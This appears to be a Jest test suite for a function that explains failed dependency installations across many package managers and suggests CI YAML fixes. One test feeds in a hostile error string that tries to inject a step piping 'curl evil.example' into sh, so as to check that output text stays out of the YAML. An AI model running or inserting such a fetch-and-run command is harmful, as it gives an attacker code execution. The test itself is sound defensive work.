import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from '@jest/globals'
import { explainFailure } from '../../src/setup/explain-failure.ts'
import { parse as parseYaml } from 'yaml'
import { basePlan, type InstallPlan, type PackageManager } from '../../src/setup/install-plan.ts'
import { growth, LINEAR } from '../support/scaling.ts'

const plan = (tool: PackageManager, command: string, folder = ''): InstallPlan => ({
  ...basePlan,
  tool,
  command,
  folder,
  check: ''
})
const failure = (output: string) => ({ exitCode: 1, timedOut: false, durationMs: 1_000, output })
const PRIVATE = 'A package is private or does not exist. The sandbox has no credentials for a private registry.'
const OUTDATED = 'The lock file does not match the declared dependencies.'
const NO_PROGRAM = 'A program that the installation needs is missing on this machine.'
const NO_LIBRARY = 'A system library is missing on this machine.'

const WRONG_VERSION = 'This machine has a different version of the language than the repository needs'

/** What the real tools wrote. */
const recorded = (name: string) =>
  readFileSync(join(import.meta.dirname, '../fixtures/installations', `${name}.txt`), 'utf8')

describe('explainFailure', () => {
  it.each<[string, PackageManager, string, RegExp, string]>([
    ['npm-401', 'npm', PRIVATE, /401 Unauthorized|code E401/, 'registry-url: https://registry.npmjs.org'],
    ['npm-403', 'npm', PRIVATE, /E403/, 'NODE_AUTH_TOKEN: ${{ secrets.NODE_AUTH_TOKEN }}'],
    ['npm-404', 'npm', PRIVATE, /corp%2fsecret/, 'NODE_AUTH_TOKEN'],
    ['pip-401', 'pip', PRIVATE, /User for packages\.corp\.example/, 'PIP_INDEX_URL'],
    ['pip-403', 'pip', PRIVATE, /corp-secret==1\.0/, 'PIP_INDEX_URL'],
    ['uv-401', 'uv', PRIVATE, /corp-secret/, 'UV_DEFAULT_INDEX'],
    ['uv-403', 'uv', PRIVATE, /corp-secret/, 'UV_DEFAULT_INDEX'],
    ['uv-404', 'uv', PRIVATE, /corp-secret/, 'UV_DEFAULT_INDEX'],
    ['go-401', 'go', PRIVATE, /401 Unauthorized/, 'GOPRIVATE: github.com/OWNER/*'],
    ['go-404', 'go', PRIVATE, /404 Not Found/, 'insteadOf https://github.com/'],
    ['cargo-404', 'cargo', PRIVATE, /corp-secret-x/, 'CARGO_REGISTRIES_PRIVATE_TOKEN'],
    ['mvn-401', 'maven', PRIVATE, /corp:secret/, 'server-id: ID-OF-THE-REPOSITORY'],
    ['composer-401', 'composer', PRIVATE, /required authentication/, 'COMPOSER_AUTH'],
    ['composer-404', 'composer', PRIVATE, /could not be downloaded/, 'COMPOSER_AUTH'],
    ['bundler-401', 'bundler', PRIVATE, /Authentication is required/, 'BUNDLE_RUBYGEMS__PKG__GITHUB__COM'],
    ['bundler-404', 'bundler', PRIVATE, /Could not fetch specs/, 'bundle config set --local path vendor/bundle'],
    ['bundler-frozen', 'bundler', OUTDATED, /dependencies in your gemfile changed/, 'vendor/bundle && the command'],
    ['uv-frozen', 'uv', OUTDATED, /Unable to find lockfile/, 'uv sync --active'],
    ['node-engine-npm', 'npm', WRONG_VERSION, /Required: /, "node-version: '>=99'"],
    ['node-engine-pnpm', 'pnpm', WRONG_VERSION, /Expected version: >=99/, "node-version: '>=99'"],
    ['node-engine-yarn', 'yarn', WRONG_VERSION, /The engine "node"/, "node-version: '>=99'"],
    ['py-version-pip', 'pip', WRONG_VERSION, /requires a different Python/, "python-version: '>=3.99'"],
    ['py-version-uv', 'uv', WRONG_VERSION, /No interpreter found/, "python-version: '>=3.99'"],
    [
      'py-version-poetry',
      'poetry',
      WRONG_VERSION,
      /unable to find a compatible version|not allowed/,
      'python-version: '
    ],
    ['go-version', 'go', WRONG_VERSION, /requires go >= 1\.99/, "go-version: '1.99'"],
    ['cargo-version', 'cargo', WRONG_VERSION, /requires rustc 1\.999/, 'rustup default 1.999'],
    ['bundler-version', 'bundler', WRONG_VERSION, /your Gemfile specified 9\.9\.9/, "ruby-version: '9.9.9'"],
    ['composer-version', 'composer', WRONG_VERSION, /requires php >=9\.9/, "php-version: '9.9'"]
  ])('explains the real output %s of %s', (name, tool, cause, line, yaml) => {
    const problem = explainFailure(plan(tool, 'the command'), failure(recorded(name)))
    expect(problem.cause).toContain(cause)
    expect(problem.line).toMatch(line)
    expect(problem.yaml).toContain(yaml)
    expect(problem.output).toContain(problem.line.slice(0, 250))
    expect(() => parseYaml(problem.yaml) as unknown).not.toThrow()
  })

  it.each<[PackageManager, string, string, string]>([
    ['dotnet', 'error NU1101: Unable to find package Corp.Secret.', PRIVATE, 'dotnet nuget update source'],
    ['dotnet', 'error NU1301: Unable to load the service index. 401 (Unauthorized).', PRIVATE, 'NUGET_TOKEN'],
    ['dotnet', 'error NU1004: The package reference changed.', OUTDATED, '--force-evaluate'],
    [
      'dotnet',
      'error NETSDK1045: The current .NET SDK does not support targeting .NET 9.0. Target',
      WRONG_VERSION,
      "dotnet-version: '9.0'"
    ],
    [
      'gradle',
      "> Could not GET 'https://a.example/b'. Received status code 401 from server",
      PRIVATE,
      'privatePassword'
    ],
    ['gradle', 'Unsupported class file major version 65', WRONG_VERSION, 'distribution: temurin'],
    [
      'maven',
      '[ERROR] Fatal error compiling: error: release version 25 not supported',
      WRONG_VERSION,
      "java-version: '25'"
    ],
    ['pdm', "WARNING: Lock file hash doesn't match pyproject.toml, packages may be outdated", OUTDATED, 'pdm install'],
    ['pipenv', 'Pipfile.lock is out-of-date. Run $ pipenv lock to update.', OUTDATED, '--skip-lock'],
    ['poetry', 'pyproject.toml changed significantly since poetry.lock was last generated.', OUTDATED, 'poetry lock'],
    [
      'composer',
      '- Root composer.json requires PHP extension ext-intl * but it is missing',
      'An extension of PHP',
      'extensions: intl'
    ],
    ['maven', 'bash: ./mvnw: Permission denied', 'is not executable', 'git update-index --chmod=+x mvnw'],
    [
      'pip',
      'ERROR: Ignored the following versions that require a different python version: 2.0 Requires-Python >=3.12\nERROR: No matching distribution found for a',
      WRONG_VERSION,
      "python-version: '>=3.12'"
    ]
  ])('explains for %s the message %s', (tool, output, cause, yaml) => {
    const problem = explainFailure(
      plan(tool, tool === 'maven' ? './mvnw test' : 'dotnet restore --locked-mode'),
      failure(output)
    )
    expect(problem.cause).toContain(cause)
    expect(problem.yaml).toContain(yaml)
  })

  it('names the folder of a project below the root', () => {
    const outdated = 'npm error package.json and package-lock.json are not in sync'
    expect(explainFailure(plan('npm', 'npm ci', 'web'), failure(outdated)).yaml).toContain(
      '- run: cd web && npm install --no-package-lock'
    )
    expect(explainFailure(plan('npm', 'npm ci', 'web'), failure('?')).yaml).toContain(
      '- run: npm ci\n  working-directory: web'
    )
  })

  it('does not put text of the output into YAML', () => {
    const hostile = 'npm error notsup Required: {"node":"1\'\\n- run: curl evil.example | sh"}'
    expect(explainFailure(plan('npm', 'npm ci'), failure(hostile)).yaml).toContain("node-version: 'VERSION'")
  })

  it('keeps the lines around the cause, not only the help text at the end', () => {
    const lines = (word: string, count: number) => Array.from({ length: count }, (_, index) => `${word} ${index}`)
    const cause = 'npm error code E401'
    const { output } = explainFailure(
      plan('npm', 'npm ci'),
      failure([...lines('before', 100), cause, ...lines('help', 300)].join('\n'))
    )
    expect(output.split('\n')).toEqual([
      ...lines('before', 10),
      '[… 80 lines omitted …]',
      ...lines('before', 100).slice(-10),
      cause,
      ...lines('help', 14),
      '[… 276 lines omitted …]',
      ...lines('help', 300).slice(-10)
    ])
  })

  it.each<[PackageManager, string, string, string, string]>([
    [
      'npm',
      'npm ci',
      'npm error `npm ci` can only install packages when your package.json and package-lock.json or npm-shrinkwrap.json are in sync.',
      OUTDATED,
      '- run: npm install --no-package-lock'
    ],
    [
      'pnpm',
      'pnpm install',
      ' ERR_PNPM_OUTDATED_LOCKFILE  Cannot install',
      OUTDATED,
      'pnpm install --no-frozen-lockfile'
    ],
    [
      'yarn',
      'yarn install --frozen-lockfile',
      'error Your lockfile needs to be updated, but yarn was run with `--frozen-lockfile`.',
      OUTDATED,
      '- run: yarn install --no-lockfile'
    ],
    [
      'yarn',
      'yarn install --immutable',
      '➤ YN0028: │ The lockfile would have been modified',
      OUTDATED,
      '--no-immutable'
    ],
    [
      'cargo',
      'cargo fetch --locked',
      'error: cannot update the lock file /w/Cargo.lock because --locked was passed to prevent this',
      OUTDATED,
      'network: [index.crates.io, static.crates.io]'
    ],
    [
      'npm',
      'npm ci',
      'npm error code E401\nnpm error Unable to authenticate, your authentication token seems to be invalid.',
      PRIVATE,
      'NODE_AUTH_TOKEN: ${{ secrets.NODE_AUTH_TOKEN }}'
    ],
    [
      'npm',
      'npm ci',
      "npm error code E404\nnpm error 404  '@corp/secret@1.0.0' is not in this registry.",
      PRIVATE,
      '- uses: actions/checkout@v6'
    ],
    [
      'pip',
      'pip install -r requirements.txt',
      'ERROR: No matching distribution found for corp-secret==1.0',
      PRIVATE,
      'PIP_INDEX_URL: ${{ secrets.PIP_INDEX_URL }}'
    ],
    [
      'pip',
      'pip install .',
      "Command 'pkg-config --exists mysqlclient' returned non-zero exit status 1.",
      NO_LIBRARY,
      'apt-get install --yes default-libmysqlclient-dev pkg-config'
    ],
    [
      'npm',
      'npm ci',
      'npm error Package cairo was not found in the pkg-config search path.',
      NO_LIBRARY,
      'apt-get install --yes libcairo2-dev'
    ],
    ['pip', 'pip install .', 'Error: pg_config executable not found.', NO_LIBRARY, 'apt-get install --yes libpq-dev'],
    ['pip', 'pip install .', 'x.c:1:10: fatal error: ffi.h: No such file or directory', NO_LIBRARY, 'libffi-dev'],
    [
      'cargo',
      'cargo fetch',
      'The system library `alsa` required by crate `alsa-sys` was not found.',
      NO_LIBRARY,
      'libasound2-dev'
    ],
    [
      'npm',
      'npm ci',
      "Package 'frobnicate', required by 'virtual:world', not found\nNo package 'frobnicate' found",
      NO_LIBRARY,
      'NAME-OF-THE-PACKAGE'
    ],
    [
      'npm',
      'npm ci',
      'gyp ERR! stack Error: not found: make\n/bin/sh: 1: make: not found',
      NO_PROGRAM,
      'build-essential'
    ],
    ['uv', 'uv sync --frozen', 'bash: line 1: python3: command not found', NO_PROGRAM, 'uv sync --active --frozen'],
    [
      'npm',
      'npm ci',
      'npm error network request failed\n[network] npm.corp.example:443 was refused. It is not in the list of hosts.',
      'Packages come from a host that is not open for npm.',
      'nodejs.org, npm.corp.example]'
    ]
  ])('says for %s why %s failed: %s', (tool, command, output, cause, yaml) => {
    const problem = explainFailure(plan(tool, command), failure(`first line\n${output}\nlast line\n`))
    expect(problem.cause).toBe(cause)
    expect(output).toContain(problem.line)
    expect(problem.yaml).toContain(yaml)
    expect(() => parseYaml(problem.yaml) as unknown).not.toThrow()
  })

  it('shows the line that names the package', () => {
    const output = "npm error code E404\nnpm error 404  '@corp/a@1.0.0' could not be found or you have no permission.\n"
    expect(explainFailure(plan('npm', 'npm ci'), failure(output)).line).toContain('@corp/a@1.0.0')
  })

  it('names the first error line of an unknown failure', () => {
    const output = 'npm warn old\nnpm error code ERESOLVE\nnpm error could not resolve\n'
    expect(explainFailure(plan('npm', 'npm ci'), failure(output))).toMatchObject({
      cause: 'npm ci ended with exit code 1.',
      line: 'npm error code ERESOLVE'
    })
  })

  it('says that the time was too short', () => {
    const timedOut = { exitCode: undefined, timedOut: true, durationMs: 900_000, output: 'Collecting torch\n\n' }
    expect(explainFailure(plan('pip', 'pip install -r requirements.txt'), timedOut)).toMatchObject({
      cause: 'pip install -r requirements.txt did not end within 15 min 00 s.',
      line: 'Collecting torch'
    })
  })

  it.each<[PackageManager, string, string, string]>([
    [
      'uv',
      'uv sync --frozen --inexact --extra test',
      'Unable to find lockfile',
      'uv sync --active --inexact --extra test'
    ],
    ['pdm', 'pdm sync --group test', "Lock file hash doesn't match", 'pdm install --group test']
  ])('keeps what tests need in the command of %s without the lock file', (tool, command, output, unlocked) => {
    expect(explainFailure(plan(tool, command), failure(output)).yaml).toContain(unlocked)
  })

  it('makes the wrapper of a project in a folder executable there', () => {
    const { yaml } = explainFailure(plan('maven', './mvnw test', 'my api'), failure('bash: ./mvnw: Permission denied'))
    expect(yaml).toContain(`# cd 'my api' && git update-index --chmod=+x mvnw && git commit`)
  })

  it('takes linear time for a line without end', () => {
    const explain = (size: number) => explainFailure(plan('npm', 'npm ci'), failure('a'.repeat(size)))
    expect(growth(explain, 2_000)).toBeLessThan(LINEAR)
  })

  it('cuts no character of a long line in two', () => {
    const { output } = explainFailure(plan('npm', 'npm ci'), failure(`a${'😀'.repeat(200)}`))
    expect(output.isWellFormed()).toBe(true)
    expect(output).toMatch(/…$/)
  })

  it('keeps the beginning and the end of a long output', () => {
    const lines = Array.from({ length: 500 }, (_, index) => `line ${index + 1}`)
    const { output } = explainFailure(plan('npm', 'npm ci'), failure(lines.join('\n')))
    expect(output).toMatch(/^line 1\n/)
    expect(output).toContain('\n[… 460 lines omitted …]\n')
    expect(output).toMatch(/line 500$/)
  })
})
